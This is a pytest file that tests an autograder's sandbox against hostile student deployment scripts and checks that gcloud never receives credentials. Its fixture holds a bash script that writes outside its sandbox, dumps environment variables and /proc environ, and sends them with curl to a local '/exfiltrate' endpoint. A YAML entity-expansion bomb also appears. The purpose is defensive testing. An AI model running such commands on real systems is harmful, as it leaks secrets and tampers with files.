"""Hostile scripts harm nothing and are graded with a message; gcloud never sees credentials."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest

from autograder import gcloud_oracle, sandbox
from autograder.oracle import Oracle
from tests.autograder.builders import REPO_ROOT, solution_files, template_files
from tests.autograder.conftest import Grader, failed

SECRET = "grader-secret-4f1d9c"

HOSTILE_SUBMIT = """\
#!/usr/bin/env bash
# Tries everything a grader must survive, then "submits" nothing useful.
echo "owned" > {outside}
echo "owned" > {repo_file}
env > "$HOME/env-dump"; cat /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n'
cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'
env
curl -s http://127.0.0.1:{port}/exfiltrate -d "$(env)"
/usr/bin/curl -s -m 3 http://127.0.0.1:{port}/direct || true
python3 -c "import socket; socket.create_connection(('127.0.0.1', {port}), 2)" || true
exit 0
"""

LOOPING_DEPLOY = """\
#!/usr/bin/env bash
while true; do sleep 0.1; done
"""


@pytest.fixture
def hostile_files(tmp_path, httpserver):
    outside = tmp_path / "outside-the-copy.txt"
    repo_file = REPO_ROOT / "HOSTILE_WAS_HERE"
    files = solution_files()
    files["deployment/submit_build_backend_v1.sh"] = HOSTILE_SUBMIT.format(
        outside=outside, repo_file=repo_file, port=httpserver.port
    )
    files["deployment/deploy_frontend_v2.sh"] = LOOPING_DEPLOY
    return files, outside, repo_file


def test_a_hostile_script_harms_nothing_and_is_graded_with_a_message(
    grader, hostile_files, httpserver, monkeypatch
):
    files, outside, repo_file = hostile_files
    monkeypatch.setenv("GRADER_API_TOKEN", SECRET)
    results = grader.grade(files, script_timeout=3)
    confinement = sandbox.current()

    if confinement.level != "none":
        assert not outside.exists()
        assert not repo_file.exists()
    if dict(confinement.facts)["network"] == "cut":
        assert httpserver.log == []  # neither the recorded curl nor a raw socket got through

    lost = {k for k, r in failed(results).items() if r.item.points}
    assert lost == {
        "Q1.backend_v1.submit_build",
        "Q6.frontend_v2.deploy_runs",
        "Q6.frontend_v2.deploy_service",
        "Q6.frontend_v2.deploy_access",
        "Q6.frontend_v2.serving_url",
    }
    submit = results["Q1.backend_v1.submit_build"].message
    assert "never submits a build" in submit
    assert "It also called curl" in submit
    loop = results["Q6.frontend_v2.deploy_runs"].message
    assert "did not finish within 3 s" in loop
    assert results["Q1.backend_v1.submit_runs"].status == "passed"
    for result in results.values():
        assert SECRET not in result.message


@pytest.mark.gcloud
def test_the_real_gcloud_never_sees_credentials(tmp_path, monkeypatch):
    """A spy named gcloud, first on PATH, reports what the oracle hands the real one.

    The spy runs confined like gcloud itself, so it lives in a folder any user can
    read and reports on its stderr, which the oracle reads back.
    """
    folder = Path(tempfile.mkdtemp(dir="/var/lib" if os.geteuid() == 0 else None))
    folder.chmod(0o755)
    spy = folder / "bin" / "gcloud"
    spy.parent.mkdir()
    spy.parent.chmod(0o755)
    spy.write_text(
        "#!/usr/bin/python3\n"
        "import json, os, sys\n"
        "config = os.environ.get('CLOUDSDK_CONFIG', '/')\n"
        "sys.stderr.write('SPY ' + json.dumps({'env': dict(os.environ), 'argv': sys.argv[1:],\n"
        "    'config': sorted(os.listdir(config)) if os.path.isdir(config) else []}) + '\\n')\n"
        "sys.stderr.flush()\n"
        "os.execv('/usr/bin/gcloud', ['gcloud', *sys.argv[1:]])\n"
    )
    spy.chmod(0o755)
    seen: list[str] = []
    classify = gcloud_oracle.classify

    def spying(argv, returncode, stdout, stderr):
        seen.append(stderr)
        return classify(argv, returncode, stdout, stderr)

    monkeypatch.setattr(gcloud_oracle, "classify", spying)
    verdicts: list = []  # what the oracle made of each run, for the failure message
    check_commands = gcloud_oracle.check_commands

    def recording(commands, **options):
        found = check_commands(commands, **options)
        verdicts.extend(found)
        return found

    monkeypatch.setattr(gcloud_oracle, "check_commands", recording)
    credentials = tmp_path / "key.json"
    credentials.write_text('{"type": "service_account", "private_key": "' + SECRET + '"}')
    monkeypatch.setenv("PATH", f"{spy.parent}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(credentials))
    monkeypatch.setenv("CLOUDSDK_AUTH_ACCESS_TOKEN_FILE", str(credentials))
    monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path))

    # Only one finished file, so only its few commands go to gcloud.
    files = template_files()
    files["deployment/deploy_backend_v1.sh"] = solution_files()["deployment/deploy_backend_v1.sh"]
    fresh = Grader(tmp_path / "submissions", {True: Oracle(None, use_gcloud=True)})
    try:
        results = fresh.grade(files, gcloud=True)  # nothing cached: every command reaches gcloud
    finally:
        shutil.rmtree(folder)
    assert results["Q3.backend_v1.deploy_runs"].status == "passed"
    runs = [
        json.loads(line[4:])
        for stderr in seen
        for line in stderr.splitlines()
        if line.startswith("SPY ")
    ]
    assert runs, (
        "the oracle never ran gcloud: "
        f"{[(v.kind, v.message) for v in verdicts]}; its stderr: {seen}"
    )
    for run in runs:
        env = run["env"]
        assert "GOOGLE_APPLICATION_CREDENTIALS" not in env
        assert "CLOUDSDK_AUTH_ACCESS_TOKEN_FILE" not in env
        assert env["CLOUDSDK_CONFIG"] != str(tmp_path)
        assert SECRET not in json.dumps(env)
        assert not any(name.startswith(("credentials", "access_tokens")) for name in run["config"])
    assert any(r["argv"][:2] == ["run", "deploy"] for r in runs)


def test_a_yaml_bomb_named_by_a_recorded_command_never_reaches_gcloud(tmp_path, monkeypatch):
    from autograder.script_runner import RecordedCall

    bomb = "a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n"
    for level in "bcdefg":
        previous = chr(ord(level) - 1)
        bomb += f"{level}: &{level} [" + ", ".join([f"*{previous}"] * 10) + "]\n"
    (tmp_path / "bomb.yaml").write_text(bomb)
    (tmp_path / "fine.yaml").write_text("steps: []\n")
    handed: list = []
    monkeypatch.setattr(gcloud_oracle, "gcloud_available", lambda: True)
    monkeypatch.setattr(
        gcloud_oracle,
        "check_commands",
        lambda commands, **_: (
            handed.extend(commands)
            or [gcloud_oracle.OracleVerdict("needs_credentials", tuple(c), "") for c in commands]
        ),
    )
    calls = [
        RecordedCall("gcloud", ("builds", "submit", ".", "--config=bomb.yaml"), str(tmp_path)),
        RecordedCall("gcloud", ("builds", "submit", ".", "--config=fine.yaml"), str(tmp_path)),
    ]
    verdicts = Oracle(None, use_gcloud=True).check_commands(calls, tree=tmp_path)
    assert [c[-1] for c in handed] == ["--config=fine.yaml"]
    assert [v.kind for v in verdicts] == ["needs_credentials", "needs_credentials"]
